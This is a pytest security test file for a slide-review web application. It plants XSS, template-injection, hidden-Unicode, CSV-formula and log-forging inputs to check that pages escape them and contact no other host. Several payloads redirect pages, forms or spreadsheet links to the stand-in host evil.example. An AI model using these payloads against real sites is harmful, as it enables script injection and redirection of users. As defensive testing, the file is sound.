"""Texts that would run, or would look like something else, in every place where somebody or something can write one."""

from __future__ import annotations

import json
import logging
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import httpx
import pytest
from playwright.sync_api import Browser, Page

from bloodcell.review.guards import POLICY
from tests.review.desk import RunningDesk, Slide, new_keys

RUNS = (
    "</script><script>document.title='run'</script>",
    "<img src=x onerror=document.title='run'>",
    "\"><svg/onload=document.title='run'>",
    "' onmouseover=document.title='run' x='",
    "<!--<script>",
    "]]>--><style>*{display:none}</style>",
    "{{7*7}}${7*7}#{7*7}",
    "javascript:document.title='run'",
    "<base href=//evil.example><form action=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
)
"""Texts without a character that nobody sees: they may be stored, and nothing may come of them."""
HIDDEN = ("ab\u202edc", "zero\u200bwidth", "\ufeffmark", "\u2066isolate\u2069", "tag\U000e0041", "soft\u00adhyphen")
"""Texts that look like others. Names that come with a slide may have them; they are spelt out."""
ALLOWED_TAGS = {"script", "link"}


class Elements(HTMLParser):
    """The elements of a page that could run or load something, and its data blocks."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[dict[str, str | None]] = []
        self.risky: list[str] = []
        self.blocks: dict[str, str] = {}
        self._block: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        self.risky += [f"{tag} {name}" for name in named if name.startswith("on") or name == "style"]
        self.risky += [f"{tag} {value}" for value in named.values() if (value or "").lower().startswith("javascript:")]
        if tag in ("iframe", "object", "embed", "base", "style") or (tag == "meta" and "http-equiv" in named):
            self.risky.append(tag)
        if tag == "img" and not (named.get("src") or "").startswith("/"):
            self.risky.append(f"img {named.get('src')}")
        if tag == "form" and not (named.get("action") or "/").startswith("/"):
            self.risky.append(f"form {named['action']}")
        if tag == "script":
            self.scripts.append(named)
            self._block = named.get("id")
            if self._block:
                self.blocks[self._block] = ""

    def handle_data(self, data: str) -> None:
        if self._block:
            self.blocks[self._block] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._block = None


def check(page: httpx.Response) -> Elements:
    """Returns the elements of a page, in which nothing may run but the desk's own scripts."""
    elements = Elements()
    elements.feed(page.text)
    elements.close()
    assert page.headers["content-security-policy"] == POLICY
    assert elements.risky == [], page.request.url
    for script in elements.scripts:
        is_own = (script.get("src") or "").startswith("/static/")
        assert is_own or script.get("type") == "application/json", script
    for name, text in elements.blocks.items():
        json.loads(text), name
    return elements


@pytest.fixture(scope="module")
def hostile(running_desk: RunningDesk) -> Slide:
    """A slide in which every name that comes from outside is hostile."""
    texts = [*RUNS, *HIDDEN]
    laboratory = running_desk.laboratory
    slide_id = laboratory.slide(
        f"S{RUNS[0]}{HIDDEN[0]}",
        order_id=RUNS[1] + HIDDEN[1],
        analyser=RUNS[2] + HIDDEN[0],
        patient_key=RUNS[0] + "x" * 10_000,
    )
    codes = [RUNS[0], "BL", "\u202eLB", "<b>", None] + [None] * (len(texts) - 5)
    names = [f"{number}{text}.jpg" for number, text in enumerate(texts)]
    cells = laboratory.cells(slide_id, codes, images=running_desk.images(len(texts)), names=names)
    laboratory.call(cells, ["neutrophil"] * len(cells))
    laboratory.label(cells[:2], ["ig", "BL"], by=f"eve{RUNS[0]}{HIDDEN[0]}", note=RUNS[0] + HIDDEN[0])
    laboratory.label(cells[:2], ["monocyte", "VLY"], by="<b>mallory</b>", note=RUNS[1])
    laboratory.count(slide_id)
    (barcode,) = running_desk.rows("SELECT barcode FROM bloodcell.slide WHERE slide_id = :s", s=slide_id)[0]
    return Slide(slide_id, barcode, {"neutrophil": cells})


PAGES = (
    "/",
    "/?barcode=S%3C&state=all&analyser=%3Cscript%3E&flag=%22%3E%3Cimg&night=%00",
    "/slides/{slide}",
    "/slides/{slide}/history",
    "/slides/{slide}/history?person=%3Cscript%3E&kind=%22%3E&cell=1",
    "/slides/{slide}/versions/1",
    "/reported?date=%3Cscript%3Ealert(1)%3C/script%3E&barcode=%3Csvg%3E",
    "/reported",
    "/adjudication",
    "/statistics",
    "/training-queue",
    "/login?next=/%22%3E%3Cscript%3E",
    "/nothing%3Cscript%3E",
    "/slides/%3Cscript%3E",
    "/enter/%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
)


@pytest.mark.parametrize("path", PAGES)
def test_no_page_runs_what_came_with_a_slide_or_an_address(
    running_desk: RunningDesk, hostile: Slide, path: str
) -> None:
    with running_desk.client("clara") as clara, running_desk.stranger() as stranger:
        clara.http.headers["accept"] = "text/html"
        stranger.headers["accept"] = "text/html"
        http = stranger if path.startswith(("/login", "/enter")) else clara.http
        page = http.get(path.replace("{slide}", str(hostile.slide_id)))
        assert page.status_code in (200, 403, 404, 422)
        check(page)
        outside = re.sub(r'<script type="application/json".*?</script>', "", page.text, flags=re.DOTALL)
        for text in HIDDEN:
            for character in re.findall(
                r"[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]", text
            ):
                assert character not in outside, f"{path}: {character!r}"


def test_the_texts_reach_the_page_as_they_are_in_its_data_blocks(running_desk: RunningDesk, hostile: Slide) -> None:
    with running_desk.client("anna") as anna:
        blocks = check(anna.http.get(f"/slides/{hostile.slide_id}")).blocks
        data = json.loads(blocks["slide"])
    assert data["slide"]["barcode"] == hostile.barcode
    assert {cell["file_name"] for cell in data["cells"]} >= {f"{n}{text}.jpg" for n, text in enumerate(RUNS)}
    assert "</script" not in blocks["slide"].lower()


def test_hostile_comments_notes_and_reasons_are_stored_as_text(running_desk: RunningDesk) -> None:
    slide = running_desk.slide()
    with running_desk.client("anna") as anna, running_desk.client("clara") as clara:
        for text in RUNS:
            anna.ask_comment(slide, text, slide.all_cells[0]).raise_for_status()
        assert anna.ask_comment(slide, "ü" * 4000).status_code == 200
        assert [comment["text"] for comment in anna.open(slide)["comments"]][:-1] == list(RUNS)
        anna.label(slide, {slide.all_cells[0]: "ig"})
        clara.open(slide)
        clara.label(slide, {slide.all_cells[0]: "monocyte"})
        with running_desk.client("dora") as dora:
            settled = {"key": new_keys(1)[0], "cell_id": slide.all_cells[0], "label": "ig", "note": RUNS[0]}
            dora.open(slide)
            settled["seen"] = dora.seen[slide.all_cells[0]]
            answer = dora.ok("POST", "/api/adjudications", json={"changes": [settled]})
            assert answer["outcomes"][0]["outcome"] == "stored"
        anna.ask_sign(slide).raise_for_status()
        anna.label(slide, {slide.all_cells[1]: "ig"})
        anna.ask_sign(slide, state="corrected", reason=RUNS[0]).raise_for_status()
        for path in ("", "/history", "/versions/1", "/versions/2", "/versions/4"):
            check(anna.http.get(f"/slides/{slide.slide_id}{path}"))
        detail = anna.ok("GET", f"/api/slides/{slide.slide_id}/cells/{slide.all_cells[0]}")
        assert detail["history"][-1]["note"] == RUNS[0]


@pytest.mark.parametrize("text", HIDDEN)
def test_what_a_person_writes_has_no_character_that_nobody_sees(
    running_desk: RunningDesk, hostile: Slide, text: str
) -> None:
    with running_desk.client("clara") as clara:
        assert clara.ask_comment(hostile, text).status_code == 422
        decision = {"key": new_keys(1)[0], "cell_id": hostile.all_cells[0], "label": "ig", "note": text}
        (outcome,) = clara.ok("POST", "/api/adjudications", json={"changes": [decision]})["outcomes"]
        assert outcome["outcome"] == "refused"
        assert clara.ask_sign(hostile, reason=text).status_code in (409, 422)


def test_the_table_for_a_spreadsheet_has_no_formulas(running_desk: RunningDesk) -> None:
    barcode = '=HYPERLINK("//evil.example")'
    slide = running_desk.slide(barcode=barcode, patient_key="@SUM(1)", analyser="-1+1|cmd")
    with running_desk.client("anna") as anna:
        anna.ask_sign(slide).raise_for_status()
        table = anna.http.get("/reported.csv").raise_for_status()
    assert table.headers["content-disposition"].startswith("attachment")
    cells = re.findall(r'(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)', table.text, flags=re.MULTILINE)
    assert [cell for cell in cells if cell.lstrip('"').startswith(("=", "@", "+", "\t"))] == []


def test_the_log_has_no_line_that_a_request_made_up(
    running_desk: RunningDesk, hostile: Slide, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    made_up = "\nINFO forged line\r\n"
    with caplog.at_level(logging.DEBUG, "uvicorn"), running_desk.stranger() as stranger:
        stranger.post("/login", data={"name": f"anna{made_up}", "password": f"secret-word{made_up}"})
        stranger.get("/%0aINFO%20forged%20line", headers={"user-agent": "x\tINFO forged line"})
        with running_desk.client("anna") as anna:
            anna.ask_comment(hostile, f"x{made_up}")
            anna.ask_comment(hostile, "x", 2**62)
    said = "\n".join(caplog.messages) + "".join(capfd.readouterr())
    assert "forged line" not in said
    assert "secret-word" not in said


@pytest.fixture
def watched(running_desk: RunningDesk, browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page of a browser in which anna is logged in, and what it complains of."""
    said: list[str] = []
    with running_desk.client("anna") as anna:
        context = browser.new_context()
        token = anna.http.cookies["bloodcell_desk"]
        context.add_cookies([{"name": "bloodcell_desk", "value": token, "url": running_desk.url}])
        page = context.new_page()
        page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on(
            "request",
            lambda request: said.append(request.url) if not request.url.startswith(running_desk.url) else None,
        )
        yield page, said
        context.close()


@pytest.mark.slow
def test_nothing_runs_in_a_browser_and_nothing_is_asked_of_another_host(
    running_desk: RunningDesk, hostile: Slide, watched: tuple[Page, list[str]]
) -> None:
    page, said = watched
    with running_desk.client("ben") as ben:
        for text in RUNS:
            ben.ask_comment(hostile, text, hostile.all_cells[0]).raise_for_status()
    for path in (f"/slides/{hostile.slide_id}", "/?state=all", f"/slides/{hostile.slide_id}/history"):
        page.goto(running_desk.url + path)
        page.wait_for_load_state("networkidle")
        assert "run" not in page.title().split("·")[-1]
        assert page.evaluate("document.title") != "run"
        assert page.evaluate("document.querySelectorAll('base, iframe, object, embed').length") == 0
        assert "\u202e" not in page.inner_text("body")
    assert said == []
